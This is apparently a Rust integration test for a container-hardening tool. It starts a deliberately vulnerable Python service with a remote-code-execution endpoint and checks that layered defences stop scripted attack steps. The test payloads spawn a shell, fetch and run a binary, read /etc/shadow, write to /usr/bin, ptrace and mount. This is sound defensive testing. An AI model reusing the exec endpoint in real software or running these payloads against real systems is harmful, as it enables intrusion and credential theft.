//! The castle test (issue 15, point 6): a small real service (Python's socket server in a
//! Debian root filesystem, under runc) gets its intent learned from a smoke test, then runs
//! under every compiled layer and passes the smoke test. A scripted attack from inside the
//! service's process (it has a remote-code-execution endpoint, as an exploited service would)
//! tries: spawn a shell, fetch and run a tool, write to /usr/bin, read /etc/shadow, connect to
//! an address outside the intent, ptrace a process, mount. With every layer on, each step is
//! stopped. Then each layer is switched off in turn (seccomp, LSM enforcement, read-only root,
//! capabilities, runtime rules): every step must still be blocked or detected by a remaining
//! layer. The matrix is printed (`cargo test -p rampart --test castle -- --nocapture`).
//!
//! The LSM enforcement (BPF LSM is refused on these kernels, docs/enforce.md) is two parts
//! applying the same compiled policy: the monitor's enforce mode (`[[enforce]]`: fanotify
//! permission events for files, cgroup programs for connections, applied from outside while
//! the container's first exec is held) and the guard launcher of `rampart intent run`
//! (Landlock inside the container, cgroup programs). They are switched off together, and the
//! guard launcher alone.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const IMAGE: &str = "registry.example.com/castle/web@sha256:c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0c0";

/// The service: GET answers, POST /run executes the body as Python (the vulnerability).
const SERVER: &str = r#"
import socket, sys
port = int(sys.argv[1])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", port))
s.listen(16)
while True:
    c, _ = s.accept()
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = c.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    method = lines[0].split(b" ")[0] if lines and lines[0] else b""
    length = 0
    for l in lines[1:]:
        k, _, v = l.partition(b":")
        if k.strip().lower() == b"content-length":
            length = int(v.strip())
    while len(body) < length:
        chunk = c.recv(65536)
        if not chunk:
            break
        body += chunk
    if method == b"POST":
        env = {}
        try:
            exec(body.decode(), env)
            out = str(env.get("result"))
        except BaseException as e:
            out = "blocked: %r" % (e,)
    else:
        out = "hello from the castle"
    out = out.encode()
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(out) + out)
    c.close()
"#;

/// The attack steps: Python run inside the service; each sets `result` to `done ...` when the
/// step achieved its goal (the side effect is there), else says why not.
fn steps(tool_port: u16, outside: &str, outside_port: u16) -> Vec<(&'static str, String)> {
    vec![
        (
            "spawn a shell",
            r#"
import subprocess, os
why = ""
try:
    subprocess.run(["/bin/sh", "-c", "echo pwned > /tmp/shell-ran"], timeout=5)
except BaseException as e:
    why = repr(e)
result = "done" if os.path.exists("/tmp/shell-ran") else "blocked: " + why
"#
            .into(),
        ),
        (
            "fetch and run a tool",
            format!(
                r#"
import socket, os, subprocess
c = socket.create_connection(("127.0.0.1", {tool_port}), timeout=5)
c.sendall(b"GET /tool HTTP/1.0\r\n\r\n")
data = b""
while True:
    b = c.recv(1 << 20)
    if not b:
        break
    data += b
tool = data.partition(b"\r\n\r\n")[2]
with open("/tmp/tool", "wb") as f:
    f.write(tool)
os.chmod("/tmp/tool", 0o755)
why = ""
try:
    subprocess.run(["/tmp/tool", "sh", "-c", "echo ran > /tmp/tool-ran"], timeout=5)
except BaseException as e:
    why = repr(e)
result = "done" if os.path.exists("/tmp/tool-ran") else "blocked after fetching %d bytes: %s" % (len(tool), why)
"#
            ),
        ),
        (
            "write to /usr/bin",
            r#"
with open("/usr/bin/evil", "w") as f:
    f.write("x")
result = "done"
"#
            .into(),
        ),
        (
            "read /etc/shadow",
            r#"
with open("/etc/shadow") as f:
    text = f.read()
result = "done" if "root:" in text else "empty"
"#
            .into(),
        ),
        (
            "connect outside the intent",
            format!(
                r#"
import socket
c = socket.create_connection(("{outside}", {outside_port}), timeout=3)
c.close()
result = "done"
"#
            ),
        ),
        (
            "ptrace a process",
            r#"
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    time.sleep(3)
    os._exit(0)
r = libc.ptrace(16, pid, 0, 0)
err = ctypes.get_errno()
os.kill(pid, 9)
os.waitpid(pid, 0)
result = "done" if r == 0 else "blocked: ptrace errno %d" % err
"#
            .into(),
        ),
        (
            "mount",
            r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
result = "done" if r == 0 else "blocked: mount errno %d" % ctypes.get_errno()
"#
            .into(),
        ),
    ]
}

fn rampart(args: &[&str], cwd: &Path) -> std::process::Output {
    common::rampart_in(args, cwd)
}

fn ok(out: &std::process::Output) {
    assert!(
        out.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

use rampart_testkit::registry::free_port;

/// One HTTP request to 127.0.0.1:`port`; the body of the answer.
fn http(port: u16, method: &str, body: &str) -> Option<String> {
    let mut c = TcpStream::connect(("127.0.0.1", port)).ok()?;
    c.set_read_timeout(Some(Duration::from_secs(20))).ok()?;
    let req = format!(
        "{method} /run HTTP/1.0\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    c.write_all(req.as_bytes()).ok()?;
    let mut out = String::new();
    c.read_to_string(&mut out).ok()?;
    Some(
        out.split_once("\r\n\r\n")
            .map(|(_, b)| b.to_owned())
            .unwrap_or(out),
    )
}

fn wait_up(port: u16) -> bool {
    let end = Instant::now() + Duration::from_secs(20);
    while Instant::now() < end {
        if http(port, "GET", "").is_some_and(|b| b.contains("castle")) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    false
}

/// Serves the tool (Debian's static busybox) over HTTP on loopback: what an attacker fetches.
fn tool_server() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let tool = std::fs::read(rampart_testkit::runc::busybox()).unwrap();
    std::thread::spawn(move || {
        for mut c in l.incoming().flatten() {
            let mut buf = [0u8; 1024];
            let _ = c.read(&mut buf);
            let _ = c.write_all(
                format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", tool.len()).as_bytes(),
            );
            let _ = c.write_all(&tool);
        }
    });
    port
}

/// An address of this machine that is not loopback (traffic to it stays on the machine), with
/// a listener: the destination outside the intent.
fn outside_listener() -> (String, u16) {
    let out = Command::new("ip")
        .args(["-4", "-o", "addr", "show", "scope", "global"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let addr = text
        .split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .and_then(|a| a.split('/').next())
        .map(str::to_owned)
        .expect("this test needs a non-loopback IPv4 address on the machine");
    let l = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || for _ in l.incoming() {});
    (addr, port)
}

/// The service's bundle: a private copy of the Python root filesystem, the server, an
/// /etc/shadow only root may read; uid 1000, read-only root, a /tmp tmpfs, host network (the
/// smoke test reaches it on loopback).
fn bundle(dir: &Path, port: u16) -> PathBuf {
    let b = dir.to_path_buf();
    let rootfs = b.join("rootfs");
    std::fs::create_dir_all(&rootfs).unwrap();
    rampart_testkit::debian::rootfs_copy(rampart_testkit::debian::PYTHON, &rootfs);
    std::fs::create_dir_all(rootfs.join("app")).unwrap();
    std::fs::write(rootfs.join("app/server.py"), SERVER).unwrap();
    std::fs::create_dir_all(rootfs.join("etc")).unwrap();
    std::fs::write(
        rootfs.join("etc/shadow"),
        "root:$y$j9T$secret:19000:0:99999:7:::\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        rootfs.join("etc/shadow"),
        std::fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    std::fs::write(
        rootfs.join("etc/passwd"),
        "root:x:0:0::/root:/bin/sh\nweb:x:1000:1000::/app:/bin/sh\n",
    )
    .unwrap();
    assert!(
        Command::new("runc")
            .arg("spec")
            .current_dir(&b)
            .status()
            .unwrap()
            .success()
    );
    let path = b.join("config.json");
    let mut c: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    c["process"]["args"] = json!(["/usr/bin/python3.11", "/app/server.py", port.to_string()]);
    c["process"]["terminal"] = json!(false);
    c["process"]["user"] = json!({ "uid": 1000, "gid": 1000 });
    c["process"]["env"] = json!(["PATH=/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE=1"]);
    c["root"] = json!({ "path": "rootfs", "readonly": true });
    c["mounts"].as_array_mut().unwrap().push(json!({
        "destination": "/tmp", "type": "tmpfs", "source": "tmpfs",
        "options": ["nosuid", "nodev", "mode=1777", "size=64m"]
    }));
    c["linux"]["namespaces"]
        .as_array_mut()
        .unwrap()
        .retain(|n| n["type"] != "network");
    std::fs::write(&path, serde_json::to_vec_pretty(&c).unwrap()).unwrap();
    b
}

/// The layers the test switches off, one at a time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Off {
    Nothing,
    Seccomp,
    Guard,
    Lsm,
    ReadOnlyRoot,
    Capabilities,
    RuntimeRules,
}

impl Off {
    fn name(self) -> &'static str {
        match self {
            Off::Nothing => "all layers",
            Off::Seccomp => "seccomp off",
            Off::Guard => "guard launcher off (the monitor's enforcement stays)",
            Off::Lsm => "LSM enforcement off (the guard launcher and the monitor's enforcement)",
            Off::ReadOnlyRoot => "read-only root off",
            Off::Capabilities => "capabilities off",
            Off::RuntimeRules => "runtime rules off",
        }
    }
}

/// Docker's default capabilities: what a container gets when nobody drops any.
const DOCKER_DEFAULT_CAPS: &[&str] = &[
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_SETGID",
    "CAP_SETUID",
    "CAP_SETPCAP",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_RAW",
    "CAP_SYS_CHROOT",
    "CAP_MKNOD",
    "CAP_AUDIT_WRITE",
    "CAP_SETFCAP",
];

/// A container of the service under the compiled layers but `off`; the child to wait for.
fn start(work: &Path, intent: &Path, off: Off, port: u16, id: &str) -> Child {
    let b = bundle(&work.join(format!("bundle-{id}")), port);
    let mut args = vec![
        "intent".to_owned(),
        "compile".into(),
        intent.display().to_string(),
        "--out".into(),
        work.join(format!("compiled-{id}")).display().to_string(),
        "--bundle".into(),
        b.display().to_string(),
        "--guard".into(),
        guard_binary().display().to_string(),
    ];
    if matches!(off, Off::Lsm | Off::Guard) {
        args.push("--no-guard".into());
    }
    let a: Vec<&str> = args.iter().map(String::as_str).collect();
    ok(&rampart(&a, work));
    let path = b.join("config.json");
    let mut c: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    match off {
        Off::Seccomp => {
            c["linux"].as_object_mut().unwrap().remove("seccomp");
        }
        Off::ReadOnlyRoot => {
            c["root"]["readonly"] = json!(false);
            for m in c["mounts"].as_array_mut().unwrap() {
                if let Some(o) = m["options"].as_array_mut() {
                    o.retain(|x| x != "noexec");
                }
            }
        }
        Off::Capabilities => {
            for set in [
                "bounding",
                "effective",
                "permitted",
                "inheritable",
                "ambient",
            ] {
                c["process"]["capabilities"][set] = json!(DOCKER_DEFAULT_CAPS);
            }
        }
        _ => {}
    }
    std::fs::write(&path, serde_json::to_vec_pretty(&c).unwrap()).unwrap();
    let log = std::fs::File::create(work.join(format!("run-{id}.log"))).unwrap();
    if matches!(off, Off::Lsm | Off::Guard) {
        Command::new("runc")
            .args(["run", "--bundle"])
            .arg(&b)
            .arg(id)
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap()
    } else {
        common::rampart_command()
            .args(["intent", "run", "--bundle"])
            .arg(&b)
            .args(["--id", id])
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap()
    }
}

/// The guard binary (rampart-enforce's `rampart-guard`), built beside this test's rampart when
/// a narrower `cargo test` did not build it.
fn guard_binary() -> PathBuf {
    let guard = Path::new(env!("CARGO_BIN_EXE_rampart")).with_file_name("rampart-guard");
    if !guard.is_file() {
        let st = Command::new(env!("CARGO"))
            .args(["build", "-p", "rampart-enforce", "--bin", "rampart-guard"])
            .current_dir(common::root())
            .status()
            .unwrap();
        assert!(
            st.success(),
            "cargo build -p rampart-enforce --bin rampart-guard"
        );
    }
    guard
}

fn stop(id: &str, mut child: Child) {
    let _ = Command::new("runc").args(["kill", id, "KILL"]).output();
    let end = Instant::now() + Duration::from_secs(15);
    while Instant::now() < end {
        if let Ok(Some(_)) = child.try_wait() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    let _ = Command::new("runc").args(["delete", "-f", id]).output();
}

/// The monitor with the compiled configuration: the runtime rules in audit mode (an alert says
/// what it would have killed; the test keeps the service alive to try every step) and, with
/// `enforce`, the intent's kernel enforcement (`[[enforce]]`, the policy's enforce mode: the
/// file guard and the connection guard on the image's containers). Alerts go to a file.
fn monitor(work: &Path, compiled: &Path, enforce: bool) -> (Child, PathBuf) {
    let text = std::fs::read_to_string(compiled.join("castle.monitor.toml")).unwrap();
    let mut cfg: toml::Table = toml::from_str(&text).unwrap();
    assert!(
        cfg.contains_key("enforce"),
        "compile wrote no [[enforce]]: {text}"
    );
    if !enforce {
        cfg.remove("enforce");
    }
    cfg.insert("mode".into(), "audit".into());
    cfg.insert("include-host".into(), false.into());
    let tag = if enforce { "enforce" } else { "rules" };
    let cfg_path = compiled.join(format!("{tag}.monitor.toml"));
    std::fs::write(&cfg_path, toml::to_string(&cfg).unwrap()).unwrap();
    let alerts = work.join(format!("alerts-{tag}.jsonl"));
    let mut child = common::rampart_command()
        .args(["monitor", "--config"])
        .arg(&cfg_path)
        .stdout(std::fs::File::create(&alerts).unwrap())
        .stderr(std::fs::File::create(work.join(format!("monitor-{tag}.log"))).unwrap())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(60);
    while Instant::now() < end {
        let log =
            std::fs::read_to_string(work.join(format!("monitor-{tag}.log"))).unwrap_or_default();
        if log.contains("monitor running") {
            return (child, alerts);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!(
        "the monitor did not start: {}",
        std::fs::read_to_string(work.join(format!("monitor-{tag}.log"))).unwrap_or_default()
    );
}

/// The kernel enforcement's denial events `rampart intent run` reported so far (JSON lines of
/// its log): `landlock exec`, `cgroup-bpf connect`...
fn denials_of(log: &Path) -> Vec<String> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v.get("mechanism").is_some())
        .map(|v| {
            format!(
                "{} {}",
                v["mechanism"].as_str().unwrap_or(""),
                v["action"].as_str().unwrap_or("")
            )
        })
        .collect()
}

fn alerts_of(path: &Path, container: &str) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["output_fields"]["container.id"].as_str() == Some(container))
        .collect()
}

/// The rule of an alert.
fn rule_of(alert: &Value) -> String {
    alert["rule"].as_str().unwrap_or("").to_owned()
}

/// The monitor's own kernel denials among alerts: `monitor fanotify exec`...
fn monitor_denials(alerts: &[Value]) -> Vec<String> {
    alerts
        .iter()
        .filter(|a| a["output_fields"]["rampart.outcome"] == "denied")
        .map(|a| {
            format!(
                "monitor {} {}",
                a["output_fields"]["rampart.mechanism"]
                    .as_str()
                    .unwrap_or(""),
                a["output_fields"]["rampart.step"].as_str().unwrap_or("")
            )
        })
        .collect()
}

#[test]
fn the_castle_holds_with_any_one_layer_down() {
    rampart_testkit::runc::ensure_runc();
    let work = tempfile::Builder::new()
        .prefix("castle.")
        .tempdir()
        .unwrap();
    let w = work.path();
    let tool_port = tool_server();
    let (outside, outside_port) = outside_listener();

    // 1. learn the intent from a smoke test
    let port = free_port();
    let learn_bundle = bundle(&w.join("learn"), port);
    let intent = w.join("castle.intent.toml");
    let smoke = format!(
        "curl -sf --retry 30 --retry-connrefused --retry-delay 0 --max-time 20 http://127.0.0.1:{port}/ | grep -q castle"
    );
    ok(&rampart(
        &[
            "intent",
            "learn",
            "--bundle",
            learn_bundle.to_str().unwrap(),
            "--image",
            IMAGE,
            "--smoke",
            &smoke,
            "--out",
            intent.to_str().unwrap(),
        ],
        w,
    ));
    let learned = rampart_intent::Intent::load(&intent).unwrap();
    let text = std::fs::read_to_string(&intent).unwrap();
    assert!(
        learned
            .process
            .executables
            .iter()
            .any(|e| e.path.as_str() == "/usr/bin/python3.11"),
        "{text}"
    );
    std::fs::write(
        &intent,
        text.replace("version = 1", "version = 1\nname = \"castle\""),
    )
    .unwrap();

    // 2. the runtime rules watch every run but the one with them off
    ok(&rampart(
        &[
            "intent",
            "compile",
            intent.to_str().unwrap(),
            "--out",
            w.join("compiled").to_str().unwrap(),
        ],
        w,
    ));
    // one monitor at a time: with the kernel enforcement, and without it for the run with the
    // LSM enforcement off
    let mut mon: Option<(bool, Child, PathBuf)> = None;

    type Row = (String, String, Vec<String>, Vec<String>);
    let mut matrix: Vec<(Off, Vec<Row>)> = Vec::new();
    let mut failures = Vec::new();
    for (n, off) in [
        Off::Nothing,
        Off::Seccomp,
        Off::Guard,
        Off::Lsm,
        Off::ReadOnlyRoot,
        Off::Capabilities,
        Off::RuntimeRules,
    ]
    .into_iter()
    .enumerate()
    {
        // the port the intent learned (each container is stopped before the next starts)
        // at most 12 characters: the container id the monitor prints is the whole id
        let id = format!("c{n}x{}", std::process::id() % 100_000);
        let enforce = off != Off::Lsm;
        if mon.as_ref().is_none_or(|(e, _, _)| *e != enforce) {
            if let Some((_, mut child, _)) = mon.take() {
                let _ = child.kill();
                let _ = child.wait();
            }
            let (child, path) = monitor(w, &w.join("compiled"), enforce);
            mon = Some((enforce, child, path));
        }
        let alerts = mon.as_ref().map(|(_, _, p)| p.clone()).unwrap();
        let child = start(w, &intent, off, port, &id);
        if !wait_up(port) {
            let log = std::fs::read_to_string(w.join(format!("run-{id}.log"))).unwrap_or_default();
            stop(&id, child);
            panic!(
                "{}: the service did not pass its smoke test:\n{log}",
                off.name()
            );
        }
        let mut row = Vec::new();
        for (step, code) in steps(tool_port, &outside, outside_port) {
            let before = alerts_of(&alerts, &id).len();
            let log = w.join(format!("run-{id}.log"));
            let denials_before = denials_of(&log).len();
            let answer =
                http(port, "POST", &code).unwrap_or_else(|| "no answer (the service died)".into());
            std::thread::sleep(Duration::from_millis(600));
            let new: Vec<Value> = alerts_of(&alerts, &id).into_iter().skip(before).collect();
            let seen: Vec<String> = if off == Off::RuntimeRules {
                Vec::new()
            } else {
                new.iter().map(rule_of).collect()
            };
            let done = answer.starts_with("done");
            if done && seen.is_empty() {
                failures.push(format!("{}: `{step}` passed unseen: {answer}", off.name()));
            }
            if off == Off::Nothing && done {
                failures.push(format!("all layers: `{step}` was not stopped: {answer}"));
            }
            // the service must survive to be probed again
            if !wait_up(port) {
                failures.push(format!("{}: the service died after `{step}`", off.name()));
                break;
            }
            let mut denied: Vec<String> =
                denials_of(&log).into_iter().skip(denials_before).collect();
            denied.extend(monitor_denials(&new));
            denied.dedup();
            row.push((step.to_owned(), answer, denied, seen));
        }
        stop(&id, child);
        matrix.push((off, row));
    }
    if let Some((_, mut child, _)) = mon.take() {
        let _ = child.kill();
        let _ = child.wait();
    }

    eprintln!(
        "\nthe castle: attack step x layer switched off -> outcome, kernel enforcement denials, monitor alerts"
    );
    for (off, row) in &matrix {
        eprintln!("== {}", off.name());
        for (step, answer, denied, seen) in row {
            let answer: String = answer.chars().take(70).collect();
            eprintln!("  {step:<27} {answer:<70} {denied:?} {seen:?}");
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
